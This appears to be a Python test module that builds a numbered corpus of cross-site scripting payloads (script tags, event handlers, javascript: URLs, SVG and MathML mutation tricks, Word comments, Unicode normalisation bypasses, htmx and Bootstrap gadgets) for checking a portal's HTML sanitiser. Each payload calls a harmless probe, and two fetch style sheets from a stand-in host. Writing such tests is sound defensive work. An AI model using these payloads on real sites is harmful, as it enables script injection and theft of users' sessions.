"""A corpus of cross-site scripting payloads, for every text field of the portal.

Every payload that could run calls the probe `top.__xss(<its number>)`, so a test that defines
`window.__xss` can tell exactly which payload ran; the few that cannot call it (a style sheet
from elsewhere, a refresh) are caught otherwise: a request to evil.invalid, a navigation, a tag
or attribute found where none may be. The payloads are grouped by kind, each with a note on what
it tries. They are at most MAX_LENGTH characters, so each fits every text field but the mobile
number; the one with a raw NUL is refused by the portal before any form sees it (`in_forms`).

The Unicode tricks come from the stored XSS this corpus was written for: the old sanitiser
normalised to NFC after nh3, and ">" followed by U+0338 (COMBINING LONG SOLIDUS OVERLAY) composes
to "≯" (U+226F), which swallows the ">" that closed a tag, so `autofocus onfocus=…` typed as text
became attributes of that tag.
"""

import base64
from dataclasses import dataclass

MAX_LENGTH = 180
GT_SLASH = ">\u0338"  # NFC composes these two into "≯" (U+226F)
PROBE = "PROBE"  # replaced by top.__xss(<number>) in each payload


@dataclass(frozen=True)
class Payload:
    number: int
    kind: str
    note: str
    text: str
    in_forms: bool = True  # False: refused before any form sees it (a raw NUL, RejectNulMiddleware)

    @property
    def probe(self) -> str:
        return probe(self.number)

    def __str__(self):
        return f"#{self.number} {self.kind}: {self.note}"


def probe(number: int) -> str:
    return f"top.__xss({number})"


def _entities(text: str) -> str:
    """Every character as a decimal character reference."""
    return "".join(f"&#{ord(c)};" for c in text)


def _hex_entities(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in text)


def _data_html(number: int) -> str:
    return base64.b64encode(f"<script>{probe(number)}</script>".encode()).decode()


# (kind, note, text): the text is a string with PROBE, or a function of the payload's number.
_CORPUS = [
    # -- script elements -------------------------------------------------------------------------
    ("script", "a plain script element", "<script>PROBE</script>"),
    ("script", "upper case", "<SCRIPT>PROBE</SCRIPT>"),
    ("script", "script loaded from a data: URL", '<script src="data:text/javascript,PROBE"></script>'),
    ("script", "a filter removing <script> once leaves one behind",
     "<scr<script>x</script>ipt>PROBE</scr<script>x</script>ipt>"),
    ("script", "a comment in a script hides an image from naive filters",
     "<script>/*</script><img src=x onerror=PROBE>*/</script>"),
    # -- event handlers --------------------------------------------------------------------------
    ("handler", "image error handler", "<img src=x onerror=PROBE>"),
    ("handler", "mixed case tag and attribute", "<IMG SRC=x OnErRoR=PROBE>"),
    ("handler", "slashes instead of spaces between attributes", '<img/src="x"/onerror=PROBE>'),
    ("handler", "handler body written as character references",
     lambda n: f'<img src=x onerror="{_entities(probe(n))}">'),
    ("handler", "body onload (merged into the page's body by the parser)", "<body onload=PROBE>"),
    ("handler", "details that toggle open by themselves",
     "<details open ontoggle=PROBE><summary>x</summary></details>"),
    ("handler", "an allowed tag that focuses itself", "<p tabindex=0 autofocus onfocus=PROBE>focus me</p>"),
    ("handler", "an allowed tag with a hover handler", "<b onmouseover=PROBE>hover me</b>"),
    ("handler", "an input that focuses itself", "<input autofocus onfocus=PROBE>"),
    ("handler", "media source error", "<video><source onerror=PROBE></video>"),
    ("handler", "<image> (the parser renames it <img>)", "<image src=x onerror=PROBE>"),
    ("handler", "marquee start event", "<marquee onstart=PROBE>x</marquee>"),
    ("handler", "a handler next to an allowed attribute of an allowed tag",
     "<table><tr><td colspan=2 onclick=PROBE onmouseover=PROBE>cell</td></tr></table>"),
    # -- links and other URLs --------------------------------------------------------------------
    ("url", "javascript: link", '<a href="javascript:PROBE">link</a>'),
    ("url", "javascript: in mixed case", '<a href="JaVaScRiPt:PROBE">link</a>'),
    ("url", "scheme with character references", '<a href="&#106;avascript&colon;PROBE">link</a>'),
    ("url", "scheme fully hex-encoded", lambda n: f'<a href="{_hex_entities("javascript:")}{probe(n)}">link</a>'),
    ("url", "a tab inside the scheme (URL parsers drop it)", '<a href="java&#x09;script:PROBE">link</a>'),
    ("url", "leading control characters and spaces", '<a href=" &#14; javascript:PROBE">link</a>'),
    ("url", "data: URL holding a script page",
     lambda n: f'<a href="data:text/html;base64,{_data_html(n)}">link</a>'),
    ("url", "vbscript: link", '<a href="vbscript:PROBE">link</a>'),
    ("url", "iframe with a javascript: source", '<iframe src="javascript:PROBE"></iframe>'),
    ("url", "iframe srcdoc (same origin as the page)", '<iframe srcdoc="&lt;script&gt;PROBE&lt;/script&gt;"></iframe>'),
    ("url", "button formaction", '<form><button formaction="javascript:PROBE">go</button></form>'),
    ("url", "form action", '<form action="javascript:PROBE"><input type=submit value=go></form>'),
    ("url", "object and embed", '<object data="javascript:PROBE"></object><embed src="javascript:PROBE">'),
    ("url", "base href hijacks every relative link", '<base href="javascript:PROBE//">'),
    ("url", "meta refresh to a javascript: URL", '<meta http-equiv="refresh" content="0;url=javascript:PROBE">'),
    # -- SVG -------------------------------------------------------------------------------------
    ("svg", "svg onload", "<svg onload=PROBE>"),
    ("svg", "script inside svg", "<svg><script>PROBE</script></svg>"),
    ("svg", "svg link with xlink:href", '<svg><a xlink:href="javascript:PROBE"><text y=20>x</text></a></svg>'),
    ("svg", "svg animation begin event", "<svg><animate onbegin=PROBE attributeName=x dur=1s></svg>"),
    ("svg", "svg set rewrites a link to javascript:",
     '<svg><a><set attributeName=href to="javascript:PROBE"/><text y=20>x</text></a></svg>'),
    ("svg", "HTML inside foreignObject", "<svg><foreignObject><img src=x onerror=PROBE></foreignObject></svg>"),
    # -- mutation XSS (markup that parses differently once serialised and parsed again) ----------
    ("mxss", "MathML mglyph and style (namespace confusion)", "<math><mtext><table><mglyph><style><img src=x onerror=PROBE>"),
    ("mxss", "nested forms and MathML (a sanitiser bypass of 2020)",
     '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=PROBE>">'),
    ("mxss", "MathML href", '<math href="javascript:PROBE">x</math>'),
    ("mxss", "noscript parsed as text once, as markup the next time",
     '<noscript><p title="</noscript><img src=x onerror=PROBE>">'),
    ("mxss", "style inside svg is markup, inside HTML it is text",
     '<svg></p><style><a id="</style><img src=x onerror=PROBE>">'),
    ("mxss", "xmp raw text", '<xmp><p title="</xmp><img src=x onerror=PROBE>">'),
    ("mxss", "listing: escaped text that serialisation may unescape", "<listing>&lt;img src=x onerror=PROBE&gt;</listing>"),
    ("mxss", "noembed raw text", '<noembed><p title="</noembed><img src=x onerror=PROBE>">'),
    ("mxss", "textarea raw text", '<textarea><p title="</textarea><img src=x onerror=PROBE>">'),
    ("mxss", "template content is inert until cloned", "<template><img src=x onerror=PROBE></template>"),
    ("mxss", "markup inside a select (customisable select parsing)", "<select><img src=x onerror=PROBE></select>"),
    ("mxss", "foster parenting moves an image out of a table",
     "<table><img src=x onerror=PROBE><tr><td>x</td></tr></table>"),
    ("mxss", "escaped markup inside an attribute", '<p>x<p title="&lt;/p&gt;&lt;img src=x onerror=PROBE&gt;">y</p>'),
    # -- style -----------------------------------------------------------------------------------
    ("style", "style sheet imported from elsewhere", "<style>@import 'https://evil.invalid/x.css';</style>"),
    ("style", "javascript: URL in an inline style", '<p style="background:url(javascript:PROBE)">x</p>'),
    ("style", "link to a style sheet elsewhere", '<link rel=stylesheet href="https://evil.invalid/x.css">'),
    ("style", "CSS expression (old browsers)", '<div style="x:expression(PROBE)">x</div>'),
    # -- pasted from Word ------------------------------------------------------------------------
    ("word", "Word conditional comment hiding a script",
     "<!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]--><!--[if gte mso 9]><script>PROBE</script><![endif]--><p>Word</p>"),
    ("word", "downlevel-revealed conditional", "<![if !supportLists]><img src=x onerror=PROBE><![endif]>"),
    ("word", "removing a conditional joins the two halves of a tag", "<img src=x <!--[if a]>y<![endif]-->onerror=PROBE>"),
    ("word", "conditional closed and reopened as comments", "<!--[if gte mso 9]><!--><img src=x onerror=PROBE><!--<![endif]-->"),
    ("word", "Word's own markup with a handler in it",
     "<p class=MsoNormal style='mso-list:l0'><span lang=BN onmouseover=PROBE>Word</span><o:p></o:p></p>"),
    # -- comments and other bogus markup ---------------------------------------------------------
    ("comment", "<!--> closes at once", "<!--><img src=x onerror=PROBE>-->"),
    ("comment", "--!> closes a comment", "<!-- --!><img src=x onerror=PROBE> -->"),
    ("comment", "a comment inside an attribute value", '<!--<img src="--><img src=x onerror=PROBE>">'),
    ("comment", "processing instruction (a bogus comment)", "<?xml ><img src=x onerror=PROBE>?>"),
    ("comment", "CDATA outside foreign content", "<![CDATA[><img src=x onerror=PROBE>]]>"),
    # -- Unicode ---------------------------------------------------------------------------------
    ("unicode", '">"+U+0338 inside an attribute (NFC makes it "≯")', f'<p title="x{GT_SLASH}<img src=x onerror=PROBE>">y</p>'),
    ("unicode", '">"+U+0338 right after a tag: NFC would swallow its ">"',
     f"<b{GT_SLASH} tabindex=0 autofocus onfocus=PROBE x=</b>"),
    ("unicode", "U+0338 as a hex reference right after an allowed tag",
     "<b>&#x338; tabindex=0 autofocus onfocus=PROBE x=</b>"),
    ("unicode", "U+0338 as a decimal reference after a table cell with an attribute",
     "<table><tr><td colspan=2>&#824; tabindex=0 autofocus onfocus=PROBE x=</td></tr></table>"),
    ("unicode", "U+0338 after a closing tag", f"<i>x</i{GT_SLASH}<img src=x onerror=PROBE>"),
    ("unicode", "U+0338 after an escaped <", "<p>&lt;\u0338img src=x onerror=PROBE&gt;</p>"),
    ("unicode", "fullwidth brackets (NFKC, not NFC, would make them real)",
     "\uff1cscript\uff1ePROBE\uff1c/script\uff1e"),
    ("unicode", "zero-width space inside the tag name", "<scr\u200bipt>PROBE</scr\u200bipt>"),
    ("unicode", "zero-width space inside the scheme", '<a href="java\u200bscript:PROBE">link</a>'),
    ("unicode", "zero-width non-joiner (kept by the portal) inside a handler name",
     "<img src=x on\u200cerror=PROBE>"),
    ("unicode", "NUL as a character reference inside the scheme", '<a href="java&#0;script:PROBE">link</a>'),
    ("unicode", "raw NUL inside tag and attribute names", "<scr\x00ipt>PROBE</scr\x00ipt><img src=x o\x00nerror=PROBE>"),
    # -- breaking out of where plain text is printed ---------------------------------------------
    ("breakout", "out of a double-quoted attribute", '"><img src=x onerror=PROBE>'),
    ("breakout", "out of a single-quoted attribute", "'><img src=x onerror=PROBE>"),
    ("breakout", "out of a textarea (the editor's fields)", "</textarea><img src=x onerror=PROBE>"),
    ("breakout", "out of the page title", "</title><img src=x onerror=PROBE>"),
    ("breakout", "out of a JSON script block (the officials' data)", "</script><script>PROBE</script>"),
    ("breakout", "out of a JavaScript string", "';PROBE;//\";PROBE;//"),
    ("breakout", "attribute injection into an unquoted context", '" autofocus onfocus=PROBE x="'),
    ("breakout", "already escaped markup must stay text", "&lt;img src=x onerror=PROBE&gt;"),
    ("breakout", "escaped twice", "&amp;lt;script&amp;gt;PROBE&amp;lt;/script&amp;gt;"),
    # -- the portal's own JavaScript (htmx, Bootstrap) -------------------------------------------
    ("portal-js", "htmx attributes run code and send requests",
     '<div hx-get="/minutes/" hx-trigger="load" hx-on::after-request="PROBE">x</div>'),
    ("portal-js", "Bootstrap tooltip with HTML in its title",
     '<button data-bs-toggle="tooltip" data-bs-html="true" title="<img src=x onerror=PROBE>">x</button>'),
    ("portal-js", "Bootstrap collapse with markup as its target",
     '<a data-bs-toggle="collapse" data-bs-target="<img src=x onerror=PROBE>">x</a>'),
    # -- unclosed and malformed ------------------------------------------------------------------
    ("unclosed", "image tag never closed", "<img src=x onerror=PROBE "),
    ("unclosed", "svg tag never closed", "<svg/onload=PROBE//"),
    ("unclosed", "link never closed", '<a href="javascript:PROBE">click'),
    ("unclosed", "unclosed inline tags, then an unclosed image", "<p><b><i><u>unclosed <img src=x onerror=PROBE"),
    # -- obsolete elements and charsets ----------------------------------------------------------
    ("legacy", "isindex", "<isindex type=image src=1 onerror=PROBE>"),
    ("legacy", "keygen", "<keygen autofocus onfocus=PROBE>"),
    ("legacy", "UTF-7", "+ADw-script+AD4-PROBE+ADw-/script+AD4-"),
    ("legacy", "a charset switch to UTF-7", '<meta charset="utf-7">+ADw-img src=x onerror=PROBE+AD4-'),
    # -- typed as a web address ------------------------------------------------------------------
    ("address", "a valid https URL carrying markup", 'https://example.org/?q="><svg/onload=PROBE>'),
    ("address", "a bare javascript: URL typed as text", "javascript:PROBE"),
]  # fmt: skip


def _build() -> list[Payload]:
    payloads = []
    for number, (kind, note, text) in enumerate(_CORPUS, start=1):
        text = text(number) if callable(text) else text.replace(PROBE, probe(number))
        payloads.append(Payload(number, kind, note, text, in_forms="\x00" not in text))
    return payloads


PAYLOADS: list[Payload] = _build()
FORM_PAYLOADS: list[Payload] = [p for p in PAYLOADS if p.in_forms]
KINDS = sorted({p.kind for p in PAYLOADS})
